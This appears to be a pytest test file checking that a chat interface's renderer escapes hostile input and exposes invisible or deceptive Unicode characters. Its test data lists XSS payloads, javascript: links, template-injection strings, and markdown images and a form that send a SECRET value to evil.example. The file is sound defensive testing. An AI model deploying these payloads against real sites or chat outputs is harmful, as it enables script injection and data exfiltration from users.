"""Escaping: whatever the words, the chat shows them and they do nothing."""

from __future__ import annotations

import html

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from assistant.web import rendering

MARKDOWN = MarkdownIt("gfm-like", {"html": True, "linkify": False})
HOSTILE = [
    "<script>window.planted=1</script>",
    "<img src=x onerror=window.planted=1>",
    "[click](javascript:window.planted=1)",
    "![pixel](https://evil.example/p.png?q=SECRET)",
    "![pixel][r]\n\n[r]: https://evil.example/p.png",
    "<https://evil.example>",
    "www.evil.example and mail@evil.example",
    "```mermaid\ngraph TD; A-->B\n```",
    "$\\href{javascript:alert(1)}{x}$ and $$x$$ and \\(x\\)",
    "# heading\n\n- entry\n\n1. entry\n\n> quote\n\n| a | b |\n|---|---|\n| 1 | 2 |",
    "heading\n=======\n\n***\n\n    code",
    "</p></main><h1>Official</h1>",
    '<form action="https://evil.example"><input name="p"></form>',
    "**bold** _em_ ~~gone~~ `code` &lt;b&gt; &#60;i&#62; \\* \\",
    "[1](/source/other.md#quote) [3]",
    "{{7*7}} ${7*7} {% raw %} <%= 7*7 %>",
    "<!-- --> <![CDATA[x]]> <?php ?>",
]


@pytest.mark.parametrize("words", HOSTILE)
def test_escaped_words_are_the_words_and_no_element(words: str) -> None:
    assert _rendered(words) == f"<p>{html.escape(words)}</p>\n"


@given(st.text())
def test_any_text_is_shown_and_nothing_else(words: str) -> None:
    shown = rendering.visible(words)
    assert html.unescape(_rendered(words)) == (f"<p>{shown}</p>\n" if words else "")


@given(st.text())
def test_escaped_text_is_the_text_in_html_too(words: str) -> None:
    escaped = rendering.escape(words)
    assert html.unescape(escaped) == rendering.visible(words)
    assert not set(escaped) & set("<>\"'`\n")


def _rendered(words: str) -> str:
    return str(MARKDOWN.render(rendering.escape(words)))


@pytest.mark.parametrize(
    ("words", "shown"),
    [
        ("safe \u202egnp.exe", "safe [U+202E]gnp.exe"),
        ("a\u2066b\u2069c", "a[U+2066]b[U+2069]c"),
        ("bell\x07 and null\x00", "bell[U+0007] and null[U+0000]"),
        ("lone \ud800", "lone [U+D800]"),
        ("x\U000e0041\U000e0042\U000e007fy", "x[3 hidden characters]y"),
        ("\uffff", "[U+FFFF]"),
        ("tab\tand\nline stay", "tab\tand\nline stay"),
        ("family 👩\u200d👧 and soft\u00adhyphen", "family 👩\u200d👧 and soft\u00adhyphen"),
    ],
)
def test_what_could_deceive_the_eye_is_written_out(words: str, shown: str) -> None:
    assert rendering.visible(words) == shown


def test_themes_in_words() -> None:
    assert rendering.theme_name("end-of-life-care") == "End of life care"


@pytest.mark.parametrize(
    ("number", "words"), [(0, "0 places"), (1, "1 place"), (1234, "1,234 places")]
)
def test_counts(number: int, words: str) -> None:
    assert rendering.count(number, "place") == words


def test_an_excerpt_ends_between_words() -> None:
    assert rendering.excerpt("one two,\n three", 100) == "one two, three"
    assert rendering.excerpt("one two, three", 12) == "one two …"
